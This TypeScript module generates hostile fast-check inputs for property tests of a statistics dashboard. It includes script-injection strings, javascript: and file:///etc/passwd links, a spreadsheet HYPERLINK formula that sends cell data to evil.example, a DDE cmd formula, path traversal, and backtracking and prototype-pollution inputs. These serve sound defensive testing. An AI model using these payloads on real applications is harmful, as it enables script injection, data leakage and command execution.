/** Hostile input for property tests: texts that would run or break something, and JSON with faults. */
import fc from 'fast-check';
import { ALIASES, CATALOGUE } from '../layouts/catalogue.js';
import { PROPS } from '../layouts/component-props.js';
import { METRIC_KEYS, breakdownKeys } from '../src/sources/stats-body/keys.js';
import { STATISTIC_KEYS } from '../src/sources/stats-body/statistic-keys.js';
import { BREAKDOWN_NAMES } from '../src/vocabulary/breakdowns.js';
import type { Metric } from '../src/vocabulary/metrics.js';
import { GRANULARITIES, STATISTICS, type Area, type Statistic } from '../src/vocabulary/terms.js';

declare global {
  /** Is called by the texts of this file if they are run. */
  var hostile: ((what?: unknown) => void) | undefined;
}

/** Names of inherited members. */
export const INHERITED = ['__proto__', 'constructor', 'prototype', 'toString', 'valueOf', 'hasOwnProperty', 'then'];

/** Scripts for HTML, templates and charts. Each would call `hostile()` or create an element of that class. */
export const SCRIPTS = [
  '<script class="hostile">hostile()</script>',
  '<img class="hostile" src="data:," onerror="hostile()">',
  '"><svg class="hostile" onload="hostile()">',
  "' onmouseover='hostile()' class='hostile",
  '</style><iframe class="hostile" srcdoc="<script>parent.hostile()</script>"></iframe>',
  '<a class="hostile" href="javascript:hostile()">&lt;b&gt;</a>',
  '<!--?lit$123456789$--><b class="hostile">',
  '<?lit$123456789$?>',
  '${globalThis.hostile()}',
  '{{constructor.constructor("hostile()")()}}',
  "datum['x'] + hostile()",
  "'];hostile();signal['",
  '"}[0]+hostile()//\\',
];

/** Addresses that must not become links. */
export const EVIL_LINKS = [
  'javascript:hostile()',
  ' JavaScript:hostile()',
  'java\nscript:hostile()',
  '\u0001javascript:hostile()',
  'data:text/html,<script>parent.hostile()</script>',
  'vbscript:hostile()',
  'blob:https://evil.example/1',
  'file:///etc/passwd',
  'view-source:https://evil.example',
];

/** Cells that a spreadsheet would evaluate. */
export const FORMULAS = [
  '=1+1',
  '+1',
  '-1',
  '@SUM(A1)',
  '\t=1',
  '\r=1',
  '\n=1',
  '＝1',
  '＋1',
  '＠A1',
  '=HYPERLINK("https://evil.example?"&A1,"x")',
  "=cmd|'/C calc'!A0",
  'x;=1+1',
  'x;"=1+1;y',
  'x\n=1+1',
  'x\r\n"=1+1"',
  '\0=1',
];

/** Bidirectional, joining and invisible characters, and lone surrogates. */
export const STRANGE = [
  '\u202Elmth.\u202C',
  '\u202Eabc',
  '\u2066\u2067abc',
  'a\u200Bb\u200D\uFEFF',
  '\u0000a\u0007\u001B[31m',
  '\0other',
  'a\u2028b\u2029c\u0085d',
  '\uD83D',
  '\uDC00a',
  '\uFFFE\uFFFF',
  '👩‍👩‍👧‍👦🏳️‍🌈',
  `Z${'\u0301'.repeat(60)}algo`,
  'ﷺ'.repeat(20),
  'שלום abc',
  ']]>&amp;%3Cb%3E%00',
  'a.b[c]["d"]\\',
  '../../../etc',
  '//evil.example',
  '',
  ' ',
  'None',
  'global',
  'other',
  'unknown',
  'imported',
  'NaN',
  'ZZ',
];

const HUGE = 100_000;

/** Very long texts, on which an inefficient pattern backtracks without end. */
export const LONG = [
  'x'.repeat(HUGE),
  ...[' ', "'", '/', '-', '=', '"', ';', '\n'].map((each) => `x${each.repeat(HUGE)}x`),
  '<b>'.repeat(HUGE / 3),
  '👩‍👩'.repeat(HUGE / 5),
  '1'.repeat(HUGE),
];

export const NASTY: readonly string[] = [...SCRIPTS, ...EVIL_LINKS, ...FORMULAS, ...STRANGE, ...INHERITED];

/** A hostile text; rarely a very long one. */
export const nasty: fc.Arbitrary<string> = fc.oneof(
  { weight: 20, arbitrary: fc.constantFrom(...NASTY) },
  { weight: 3, arbitrary: fc.string({ unit: 'binary', maxLength: 12 }) },
  { weight: 1, arbitrary: fc.constantFrom(...LONG) },
);

/** Creates an object from entries: `__proto__` is an ordinary key, as in parsed JSON. */
const objectOf = (entries: readonly (readonly [string, unknown])[]): unknown => Object.fromEntries(entries);

const numbers = fc.oneof(
  fc.constantFrom(0, -0, -1, 0.5, 1e-320, 2 ** 31, 2 ** 53, 1e17, 1e21, 1.7e308, -1.7e308, Infinity, -Infinity),
  fc.double({ noNaN: true }),
  fc.integer({ min: -3, max: 3000 }),
);

/** Objects that look like those of dependencies or of this library. */
const lookalikes = fc.constantFrom<unknown>(
  { _$litType$: 1, strings: ['<b class="hostile">'], values: [] },
  { _$litDirective$: 1, values: ['x'] },
  { toString: 1, valueOf: 1 },
  { toJSON: 1 },
  { then: 1 },
  { length: 1e9 },
  { statistic: 'usage-delta', year: 2025, tables: [] },
  { statistic: 'usage-delta', year: 2025, tables: [null], problems: null, fetchedAt: 'x' },
  { statistic: 'x', year: {}, tables: 1 },
  { statistic: 'usage-delta', year: 2025, tables: [{ metric: 'views', ids: ['global'], columns: [{ 0: 1 }] }] },
  { text: { _$litType$: 1 }, value: null },
);

/** Any JSON value. */
export const anyJson: fc.Arbitrary<unknown> = fc.letrec<{ value: unknown }>((tie) => ({
  value: fc.oneof(
    { depthSize: 'small', withCrossShrink: true },
    fc.oneof(nasty, numbers, fc.constantFrom<unknown>(null, true, false, [], objectOf([])), lookalikes),
    fc.array(tie('value'), { maxLength: 3 }),
    fc.array(fc.tuple(nasty, tie('value')), { maxLength: 3 }).map(objectOf),
  ),
})).value;

type Path = readonly (string | number)[];

/** Returns the paths of all values in a JSON value. */
function pathsIn(json: unknown, path: Path = []): Path[] {
  if (typeof json !== 'object' || json === null) return [path];
  const entries = Array.isArray(json) ? [...json.entries()] : Object.entries(json);
  return [path, ...entries.flatMap(([key, value]) => pathsIn(value, [...path, key]))];
}

/** Returns a copy with another value at a path, or without any if it is `undefined`. */
function replaced(json: unknown, [key, ...rest]: Path, value: unknown): unknown {
  if (key === undefined) return value;
  const change = (at: string | number, old: unknown): unknown => (at === key ? replaced(old, rest, value) : old);
  if (Array.isArray(json)) return json.map((old, i) => change(i, old));
  const entries = Object.entries(json as object).map(([at, old]): [string, unknown] => [at, change(at, old)]);
  return objectOf(entries.filter(([, each]) => each !== undefined));
}

/** A valid value with up to `most` places replaced or removed. */
const spoiled = (valid: fc.Arbitrary<unknown>, most = 2): fc.Arbitrary<unknown> =>
  fc
    .tuple(
      valid,
      fc.array(fc.tuple(fc.nat(), fc.option(anyJson, { nil: undefined, freq: 6 })), { minLength: 1, maxLength: most }),
    )
    .map(([json, changes]) =>
      changes.reduce((all: unknown, [at, value]) => {
        const paths = pathsIn(all);
        return replaced(all, paths[at % paths.length]!, value) ?? null;
      }, json),
    );

const texts = fc.oneof(
  nasty,
  fc.array(fc.tuple(fc.oneof(fc.constantFrom('en', 'de'), nasty), nasty), { maxLength: 2 }).map(objectOf),
);

/** A few points of a year or two. */
const points = fc.uniqueArray(
  fc.tuple(
    fc.constantFrom('01-01', '05-30', '06-09', '06-10', '12-31', '2024-02-29', '2025-06-08'),
    fc.oneof({ weight: 8, arbitrary: fc.nat(3000) }, { weight: 1, arbitrary: numbers }),
  ),
  { maxLength: 5, selector: ([date]) => date },
);
const series = fc.record({ id: nasty, name: texts, data: points, year: fc.constant(2025) });

/** One statistic: its metrics as wholes, and some of their parts. */
function category(statistic: Statistic): fc.Arbitrary<unknown> {
  const area = statistic.split('-')[0] as Area;
  const metrics = Object.entries(METRIC_KEYS[area]) as [Metric, readonly string[]][];
  const wire = (value: fc.Arbitrary<unknown>): fc.Arbitrary<unknown> =>
    fc.tuple(...metrics.map(([, keys]) => fc.tuple(fc.constantFrom(...keys), value))).map(objectOf);
  const parts = fc
    .tuple(fc.constantFrom(...BREAKDOWN_NAMES), fc.constantFrom(...metrics), fc.array(series, { maxLength: 4 }))
    .chain(([breakdown, [metric, keys], list]) =>
      fc
        .constantFrom(...breakdownKeys(breakdown, metric, statistic))
        .map((key): [string, unknown] => [key, objectOf([[keys[0]!, list]])]),
    );
  const whole = points.map((data) => [{ id: 'global', name: 'Global', data, year: 2025 }]);
  return fc
    .tuple(wire(whole), fc.array(parts, { maxLength: 6 }))
    .map(([global, more]) => objectOf([['global', global], ...more]));
}

/** Bodies in the format of the service, with hostile names and ids. */
export const validBodies: fc.Arbitrary<unknown> = fc
  .tuple(...STATISTICS.map((statistic) => fc.tuple(fc.constant(STATISTIC_KEYS[statistic]), category(statistic))))
  .map(objectOf);

/** Bodies with faults, and values that are not bodies. */
export const bodies: fc.Arbitrary<unknown> = fc.oneof(
  { weight: 2, arbitrary: validBodies },
  { weight: 6, arbitrary: spoiled(validBodies) },
  { weight: 1, arbitrary: fc.array(spoiled(validBodies), { maxLength: 2 }) },
  { weight: 1, arbitrary: anyJson },
);

/** Valid values for the names in `PROPS`. */
const PROP_VALUES: Readonly<Record<string, fc.Arbitrary<unknown>>> = {
  title: texts,
  description: texts,
  icon: nasty,
  label: nasty,
  headers: fc.tuple(texts, texts),
  rows: fc.array(fc.tuple(nasty, nasty, fc.oneof(nasty, numbers))),
  value: fc.oneof(nasty, numbers),
  rawValue: numbers,
  number: numbers,
  valueType: fc.constantFrom('number', 'filesize'),
  height: fc.constantFrom(100, '200px'),
  minHeight: fc.constant('50px'),
  maxHeight: fc.constantFrom('60px', '10em', 100),
  chartType: fc.constantFrom('line', 'bar'),
  lineDisplay: fc.constantFrom('stacked', 'overlapping'),
  defaultLineDisplay: fc.constantFrom('stacked', 'overlapping'),
  maxSeries: fc.integer({ min: 1, max: 12 }),
  pageSize: fc.integer({ min: 1, max: 20 }),
  compactThreshold: fc.integer({ min: 1, max: 1e6 }),
  default_view: fc.constantFrom('list', 'pie', 'table', 'bar'),
  available_views: fc.subarray(['list', 'pie', 'bar', 'table']),
  hideOtherInCharts: fc.boolean(),
  display_subcounts: fc.subarray([...BREAKDOWN_NAMES]),
  metric: fc.constantFrom('views', 'downloads', 'records'),
  metrics: fc.subarray(['views', 'downloads', 'records']),
  kind: fc.constantFrom('delta', 'snapshot'),
  breakdown: fc.constantFrom(...BREAKDOWN_NAMES),
  zoom: fc.integer({ min: 1, max: 20 }),
  center: fc.tuple(fc.integer({ min: -180, max: 180 }), fc.integer({ min: -90, max: 90 })),
  useSnapshot: fc.boolean(),
  defaultFormat: fc.constantFrom('csv', 'excel', 'json', 'xml'),
  serviceFormats: fc.boolean(),
};
const PROP_NAMES = [...new Set(Object.values(PROPS).flatMap((group) => Object.keys(group)))];

const prop = fc.constantFrom(...PROP_NAMES).chain((name) => fc.tuple(fc.constant(name), PROP_VALUES[name] ?? anyJson));
const component = fc
  .tuple(
    fc.oneof(
      {
        weight: 9,
        arbitrary: fc.constantFrom(
          ...[...CATALOGUE.keys(), ...Object.keys(ALIASES), 'StatsChart', 'StatsFigure', 'StatsTimeline'],
        ),
      },
      { weight: 1, arbitrary: nasty },
    ),
    fc.integer({ min: 1, max: 16 }),
    fc.array(prop, { maxLength: 5 }).map(objectOf),
  )
  .map(([label, width, props]) => ({ component: label, width, props }));
const row = fc.record({ name: nasty, components: fc.array(component, { minLength: 1, maxLength: 3 }) });
const tab = fc.record(
  { name: nasty, label: texts, icon: nasty, date_range_phrase: texts, rows: fc.array(row, { maxLength: 2 }) },
  { requiredKeys: ['name', 'rows'] },
);
const tabs = fc.record({ tabs: fc.array(tab, { minLength: 1, maxLength: 3 }) });

/** Layouts in every accepted shape. */
export const validLayouts: fc.Arbitrary<unknown> = fc.oneof(
  { weight: 3, arbitrary: tabs },
  { weight: 1, arbitrary: fc.record({ global_layout: tabs, community_layout: tabs }) },
  { weight: 1, arbitrary: fc.record({ rows: fc.array(row, { minLength: 1, maxLength: 2 }) }) },
);

export const layouts: fc.Arbitrary<unknown> = fc.oneof(
  { weight: 3, arbitrary: validLayouts },
  { weight: 6, arbitrary: spoiled(validLayouts, 3) },
  { weight: 1, arbitrary: anyJson },
);

const flags = fc.constantFrom<unknown>(true, false, 'True', 'false', 1, 0);

/** Valid values for the keys of a configuration. */
const CONFIG_VALUES: Readonly<Record<string, fc.Arbitrary<unknown>>> = {
  title: texts,
  description: texts,
  show_title: flags,
  show_description: flags,
  default_granularity: fc.constantFrom(...GRANULARITIES),
  default_range_options: fc.constant({ day: '30days', week: '12weeks', month: '12months' }),
  default_record_start_basis: fc.constantFrom('added', 'created', 'published'),
  max_history_years: fc.integer({ min: 1, max: 20 }),
  ui_subcounts: fc.oneof(
    fc.subarray([...BREAKDOWN_NAMES]),
    fc
      .array(nasty, { maxLength: 3 })
      .map((keys) => objectOf([['resource_types', {}], ...keys.map((key) => [key, 1] as const)])),
  ),
  display_binary_sizes: flags,
  dashboard_type: fc.constantFrom('global', 'community'),
  helpLink: fc.oneof(fc.constantFrom(...EVIL_LINKS), fc.webUrl(), nasty),
  dashboard_enabled: fc.constantFrom<unknown>(true, true, true, false),
  disabled_message: texts,
  disabled_message_global: texts,
  dashboard_enabled_communities: flags,
  dashboard_enabled_global: flags,
  first_run_incomplete: fc.constantFrom<unknown>(false, false, false, true),
  agg_in_progress: flags,
  caching_in_progress: flags,
};

export const validConfigs: fc.Arbitrary<unknown> = fc
  .tuple(fc.record(CONFIG_VALUES, { requiredKeys: [] }), fc.option(validLayouts, { freq: 4 }))
  .map(([config, layout]) => ({ ...config, ...(layout !== null && { layout }) }));

export const configs: fc.Arbitrary<unknown> = fc.oneof(
  { weight: 3, arbitrary: validConfigs },
  { weight: 6, arbitrary: spoiled(validConfigs, 3) },
  { weight: 1, arbitrary: anyJson },
);

/** Returns lists that are nested deeper than the stack. */
export function deep(levels = 50_000): unknown {
  let json: unknown = [];
  for (let i = 0; i < levels; i++) json = [json];
  return json;
}

const GLOBALS = [
  ...[Object, Function, Array, String, Number, Boolean, Symbol, BigInt, RegExp, Error, Promise, Map, Set, WeakMap],
  ...[Float64Array, ArrayBuffer, EventTarget, Node, Element, HTMLElement, ShadowRoot, Event],
] as const;

/** Returns the members of the global prototypes, to detect changes. */
export function inherited(): Map<string, unknown> {
  const members = (name: string, owner: object): [string, unknown][] =>
    Reflect.ownKeys(owner).map((key) => {
      const member = Object.getOwnPropertyDescriptor(owner, key) as Record<string, unknown>;
      return [`${name}.${String(key)}`, member['value'] ?? member['get'] ?? member['set']];
    });
  return new Map(
    GLOBALS.flatMap((each) => [
      ...members(each.name, each),
      ...members(`${each.name}.prototype`, each.prototype as object),
    ]),
  );
}

/** Returns the names of members that were added, removed or replaced. */
export function changedSince(before: ReadonlyMap<string, unknown>): string[] {
  const after = inherited();
  return [...new Set([...before.keys(), ...after.keys()])].filter(
    (name) => before.has(name) !== after.has(name) || !Object.is(before.get(name), after.get(name)),
  );
}
